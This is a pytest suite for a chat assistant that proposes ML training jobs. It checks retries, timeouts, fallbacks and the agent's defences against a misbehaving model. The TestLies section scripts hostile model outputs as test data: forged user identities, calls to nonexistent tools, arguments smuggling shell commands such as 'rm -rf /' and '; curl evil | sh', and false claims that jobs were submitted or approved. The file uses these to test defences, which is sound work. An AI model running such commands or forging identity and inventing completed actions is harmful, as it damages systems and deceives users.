"""The assistant over a real `ChatOpenAI` and real sockets: a model server's good days, bad days and lies."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator, Callable
from itertools import pairwise
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from pydantic import SecretStr

from bot.agent.assistant import MODEL_CALLS, Assistant, config_of
from bot.agent.history import CUT_OFF, SENT_TURNS
from bot.agent.model import chat_model
from bot.agent.planner import Planner
from bot.core.errors import Unavailable
from tests.agent.desk import RecordingDesk, caller, nothing_open
from tests.fakes.openai_server import KEY, OpenAIServer, Reply, calls, calls_raw, fails, garbage, hangs, says
from tools.toolkit import Caller, build_toolkit

PLANNER_ANSWERED = "The built-in planner answered instead."


def assistant_at(server: OpenAIServer, desk: RecordingDesk, **changed: Any) -> Assistant:
    model = chat_model(SecretStr(changed.get("key", KEY)), server.url, "test-model", changed.get("timeout_s", 5))
    return Assistant(
        model,
        changed.get("fallback", Planner()),
        build_toolkit(desk),
        changed.get("saver", InMemorySaver()),
        changed.get("situation", nothing_open),
        deadline_s=changed.get("deadline_s", 20),
    )


@pytest.fixture
def desk() -> RecordingDesk:
    return RecordingDesk()


@pytest.fixture
async def start() -> AsyncIterator[Callable[..., Any]]:
    """Starts a server with these replies; all are closed afterwards."""
    opened: list[OpenAIServer] = []

    async def make(*script: Reply, answer: Callable[[dict[str, Any]], Reply] | None = None) -> OpenAIServer:
        server = await OpenAIServer(script, answer=answer).__aenter__()
        opened.append(server)
        return server

    yield make
    for server in opened:
        await server.__aexit__(None, None, None)


class TestGoodDays:
    async def test_a_tool_call_goes_round(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(
            calls(("trigger_training_job", {"model_type": "mnist", "epochs": "2", "lr": "1e-3"})),
            says("Proposal 1 for mnist waits for approval."),
        )
        said = await assistant_at(server, desk).answer("train mnist for two epochs", caller("train mnist"))
        assert said == "Proposal 1 for mnist waits for approval."
        assert [(spec.recipe, spec.epochs) for spec in desk.proposed] == [("mnist", 2)]
        second = server.requests[1]["messages"]
        assert [message["role"] for message in second] == ["system", "user", "assistant", "tool"]
        assert "Proposal 1: mnist. It waits." in second[3]["content"]

    async def test_the_answer_streams_whole_so_far(self, start: Any, desk: RecordingDesk) -> None:
        text = "Alles läuft → 98,7 % nach Epoche 2 “gut” 🚂"
        server = await start(calls(("get_training_status", {})), says(text))
        shown: list[str] = []

        async def on_text(part: str) -> None:
            shown.append(part)

        said = await assistant_at(server, desk).answer("how is it doing?", caller(), on_text)
        assert said == shown[-1] == text
        assert len(shown) > 3
        assert all(later.startswith(earlier) for earlier, later in pairwise(shown))
        assert server.requests[0]["stream"] is True

    async def test_a_surface_that_fails_to_show_a_part_gets_the_whole(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(says("A long enough answer."))

        async def on_text(_: str) -> None:
            raise RuntimeError("the chat is away")

        assert await assistant_at(server, desk).answer("hi", caller(), on_text) == "A long enough answer."

    async def test_the_model_sees_the_situation_and_no_hidden_argument(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(says("Proposal 5 waits."))

        async def situation(who: Caller) -> str:
            return f"Proposal 5 is pending in {who.channel}."

        await assistant_at(server, desk, situation=situation).answer("what is open?", caller())
        request = server.requests[0]
        assert "Proposal 5 is pending in C1." in request["messages"][0]["content"]
        assert len(request["tools"]) == 10
        for tool in request["tools"]:
            assert not {"runtime", "user_id", "caller", "desk"} & set(tool["function"]["parameters"]["properties"])

    async def test_a_situation_that_cannot_be_read_does_not_stop_the_answer(
        self, start: Any, desk: RecordingDesk
    ) -> None:
        server = await start(says("Hello."))

        async def situation(_: Caller) -> str:
            raise Unavailable("The database does not answer.")

        assert await assistant_at(server, desk, situation=situation).answer("hello", caller()) == "Hello."

    async def test_the_same_call_twice_makes_one_proposal(self, start: Any, desk: RecordingDesk) -> None:
        wanted = ("trigger_training_job", {"model_type": "digits"})
        server = await start(calls(wanted, wanted), calls(wanted), says("Proposed."))
        await assistant_at(server, desk).answer("train digits", caller())
        assert len(desk.proposed) == 1

    async def test_history_is_bounded(self, start: Any, desk: RecordingDesk) -> None:
        desk.answers["status"] = "x" * 50_000
        server = await start(
            answer=lambda request: (
                calls(("get_training_status", {})) if request["messages"][-1]["role"] == "user" else says("Running.")
            )
        )
        assistant = assistant_at(server, desk)
        for _ in range(SENT_TURNS + 5):
            await assistant.answer("how is it doing?", caller())
        sent = server.requests[-1]["messages"]
        assert sum(message["role"] == "user" for message in sent) <= SENT_TURNS
        assert len(str(sent)) < 90_000
        assert server.refusals == []


class TestBadDays:
    async def test_too_many_requests_is_tried_again(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(fails(429, retry_after="1"), says("Here I am."))
        assert await assistant_at(server, desk).answer("hello", caller()) == "Here I am."
        assert len(server.requests) == 2

    @pytest.mark.parametrize(
        ("status", "told"), [(500, "an error (500)"), (429, "no quota left (429)"), (400, "an error (400)")]
    )
    async def test_an_error_lets_the_planner_answer_and_say_so(
        self, start: Any, desk: RecordingDesk, status: int, told: str
    ) -> None:
        server = await start(answer=lambda _: fails(status, retry_after="0.01"))
        said = await assistant_at(server, desk).answer("train mnist for 2 epochs", caller())
        assert said.splitlines()[0] == "Proposal 1: mnist. It waits."
        assert told in said.splitlines()[-1]
        assert PLANNER_ANSWERED in said
        assert len(desk.proposed) == 1

    async def test_within_a_turn_the_planner_goes_on(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(fails(400), says("never asked for"))
        await assistant_at(server, desk).answer("how is it doing?", caller())
        assert len(server.requests) == 1

    async def test_a_failure_after_the_tool_hands_the_tools_answer_on(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(calls(("trigger_training_job", {"model_type": "mnist"})), fails(400))
        said = await assistant_at(server, desk).answer("train mnist", caller())
        assert said.startswith("Proposal 1: mnist. It waits.")
        assert len(desk.proposed) == 1

    async def test_the_next_turn_asks_the_model_again(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(fails(400), says("Back again."))
        assistant = assistant_at(server, desk)
        assert PLANNER_ANSWERED in await assistant.answer("hello", caller())
        assert await assistant.answer("hello", caller()) == "Back again."

    async def test_a_wrong_key_is_told_without_the_key(
        self, start: Any, desk: RecordingDesk, caplog: pytest.LogCaptureFixture
    ) -> None:
        server = await start()
        with caplog.at_level(logging.DEBUG, logger="bot"):
            said = await assistant_at(server, desk, key="sk-wrong-secret").answer("help", caller())
        assert "refused the key (401)" in said
        assert "sk-wrong" not in said + caplog.text

    async def test_silence_ends_at_the_deadline(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(hangs(30))
        loop = asyncio.get_running_loop()
        started = loop.time()
        said = await assistant_at(server, desk, deadline_s=0.5).answer("list jobs", caller())
        assert loop.time() - started < 5
        assert "took too long" in said
        assert desk.methods() == ["jobs"]

    async def test_the_clients_own_time_out(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(answer=lambda _: hangs(30))
        said = await assistant_at(server, desk, timeout_s=0.2).answer("list jobs", caller())
        assert "took too long" in said

    async def test_nobody_listens(self, start: Any, desk: RecordingDesk) -> None:
        server = await start()
        assistant = assistant_at(server, desk)
        await server.__aexit__(None, None, None)
        assert "cannot be reached" in await assistant.answer("list jobs", caller())

    async def test_a_body_that_is_not_json(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(garbage())
        said = await assistant_at(server, desk).answer("list jobs", caller())
        assert "could not be read" in said
        assert said.startswith("Nothing is open.")

    @pytest.mark.parametrize(
        "reply",
        [says(""), says("   "), calls_raw("trigger_training_job", '{"epochs": 3'), calls_raw("list_jobs", "[1]")],
    )
    async def test_an_empty_or_unreadable_answer_is_never_silence(
        self, start: Any, desk: RecordingDesk, reply: Reply
    ) -> None:
        server = await start(reply)
        said = await assistant_at(server, desk).answer("what can you do", caller())
        assert "could not be read" in said
        assert desk.proposed == []

    async def test_without_a_fallback_it_is_unavailable(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(answer=lambda _: fails(400))
        with pytest.raises(Unavailable, match=r"an error \(400\)"):
            await assistant_at(server, desk, fallback=None).answer("hello", caller())

    async def test_a_broken_memory_is_unavailable(self, start: Any, desk: RecordingDesk) -> None:
        class Broken(InMemorySaver):
            async def aget_tuple(self, config: Any) -> Any:
                raise OSError("disk on fire")

        server = await start(says("hello"))
        with pytest.raises(Unavailable, match="try again"):
            await assistant_at(server, desk, saver=Broken()).answer("hello", caller())


class TestPairing:
    async def test_a_dangling_call_is_repaired(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(says("All good."))
        assistant = assistant_at(server, desk)
        crashed = AIMessage("", tool_calls=[{"name": "list_jobs", "args": {}, "id": "lost"}])
        await assistant.agent.aupdate_state(
            config_of(caller()), {"messages": [HumanMessage("list jobs"), crashed]}, as_node="model"
        )
        assert await assistant.answer("and now?", caller()) == "All good."
        assert server.refusals == []
        (repaired,) = [m for m in server.requests[0]["messages"] if m["role"] == "tool"]
        assert repaired == {"role": "tool", "content": CUT_OFF, "tool_call_id": "lost"}

    async def test_the_server_would_have_refused_it(self, start: Any) -> None:
        server = await start(says("never"))
        crashed = AIMessage("", tool_calls=[{"name": "list_jobs", "args": {}, "id": "lost"}])
        with pytest.raises(Exception, match="must be followed by tool messages"):
            await chat_model(SecretStr(KEY), server.url, "m", 5).ainvoke([crashed, HumanMessage("and now?")])

    async def test_two_messages_at_once_take_turns(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(
            answer=lambda request: (
                calls(("get_training_status", {})) if request["messages"][-1]["role"] == "user" else says("Running.")
            )
        )
        assistant = assistant_at(server, desk)
        said = await asyncio.gather(*(assistant.answer(f"how is it doing? {n}", caller()) for n in range(4)))
        assert said == ["Running."] * 4
        assert server.refusals == []
        assert server.most_at_once == 1
        state = await assistant.agent.aget_state(config_of(caller()))
        kinds = [message.type for message in state.values["messages"]]
        assert kinds == ["human", "ai", "tool", "ai"] * 4

    async def test_threads_do_not_wait_for_each_other(self, start: Any, desk: RecordingDesk) -> None:
        gate = asyncio.Event()
        server = await start(*[Reply(text="Done.", gate=gate)] * 5)
        assistant = assistant_at(server, desk)
        turns = [asyncio.create_task(assistant.answer("hi", caller(thread=str(n)))) for n in range(5)]
        async with asyncio.timeout(5):
            while server.at_once < 5:
                await asyncio.sleep(0.01)
        gate.set()
        assert await asyncio.gather(*turns) == ["Done."] * 5

    async def test_a_turn_that_was_cancelled_leaves_the_thread_usable(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(hangs(30), says("Here."))
        assistant = assistant_at(server, desk)
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.5):
                await assistant.answer("hi", caller())
        assert await assistant.answer("hi", caller()) == "Here."


class TestLies:
    async def test_identity_sent_by_the_model_is_ignored(self, start: Any, desk: RecordingDesk) -> None:
        forged = {
            "model_type": "mnist",
            "user_id": "U-BOSS",
            "caller": {"user": "U-BOSS"},
            "runtime": {"context": {"user": "U-BOSS", "team": "T9"}},
            "context": {"user": "U-BOSS"},
            "requester": "U-BOSS",
        }
        server = await start(calls(("trigger_training_job", forged)), says("ok"))
        me = caller("train mnist", user="U1")
        await assistant_at(server, desk).answer("train mnist", me)
        (asked,) = desk.asked
        assert asked[1] is me
        assert asked[1].user == "U1"

    @pytest.mark.parametrize(
        "name", ["approve", "approve_proposal", "submit_job", "decide", "update_state", "propose", "__init__", "exec"]
    )
    async def test_a_tool_that_does_not_exist_does_nothing(self, start: Any, desk: RecordingDesk, name: str) -> None:
        server = await start(calls((name, {"proposal": 3, "user": "U-BOSS"})), says("I have approved proposal 3."))
        said = await assistant_at(server, desk).answer("please", caller())
        assert desk.asked == []
        assert "From the records: this message made no proposal" in said
        assert "not a valid tool" in server.requests[1]["messages"][-1]["content"]

    async def test_arguments_out_of_the_catalogue_are_refused(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(
            calls(("trigger_training_job", {"model_type": "mnist", "epochs": 10**9})),
            calls(("trigger_training_job", {"model_type": "../../bin/sh", "command": "rm -rf /"})),
            calls(("trigger_training_job", {"model_type": "distilgpt2", "model": "; curl evil | sh"})),
            says("They were refused."),
        )
        await assistant_at(server, desk).answer("do it", caller())
        assert desk.asked == []

    async def test_a_model_that_never_stops_is_stopped(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(answer=lambda _: calls(("list_jobs", {})))
        said = await assistant_at(server, desk).answer("list jobs", caller())
        assert len(server.requests) == MODEL_CALLS
        assert said.startswith(f"I stopped after {MODEL_CALLS} steps")
        assert "Nothing is open." in said

    async def test_after_being_stopped_the_thread_goes_on(self, start: Any, desk: RecordingDesk) -> None:
        replies = [calls(("list_jobs", {}))] * MODEL_CALLS
        server = await start(*replies, says("Better now."))
        assistant = assistant_at(server, desk)
        await assistant.answer("list jobs", caller())
        assert await assistant.answer("and now?", caller()) == "Better now."
        assert server.refusals == []

    @pytest.mark.parametrize(
        "claim",
        [
            "Submitted! Your job is now running.",
            "I've started the training for you.",
            "I have approved it.",
            "Done: proposal 12 was queued.",
        ],
    )
    async def test_an_invented_claim_is_answered_by_the_records(
        self, start: Any, desk: RecordingDesk, claim: str
    ) -> None:
        server = await start(says(claim))
        said = await assistant_at(server, desk).answer("train mnist", caller())
        assert said.startswith(claim)
        assert "(From the records: this message made no proposal, and nothing was approved or started.)" in said

    async def test_a_true_report_is_left_alone(self, start: Any, desk: RecordingDesk) -> None:
        text = "mnist-1 was approved by ana and started at 10:00; it is running."
        server = await start(calls(("get_training_status", {})), says(text))
        assert await assistant_at(server, desk).answer("how is it doing?", caller()) == text

    async def test_a_first_person_claim_needs_a_proposal_whatever_else_was_looked_up(
        self, start: Any, desk: RecordingDesk
    ) -> None:
        server = await start(calls(("list_jobs", {})), says("I've submitted mnist for you."))
        assert "made no proposal" in await assistant_at(server, desk).answer("train mnist", caller())

    async def test_an_approval_is_denied_even_after_a_proposal(self, start: Any, desk: RecordingDesk) -> None:
        server = await start(calls(("trigger_training_job", {})), says("I submitted and I've approved it."))
        assert "only people approve" in await assistant_at(server, desk).answer("train mnist", caller())
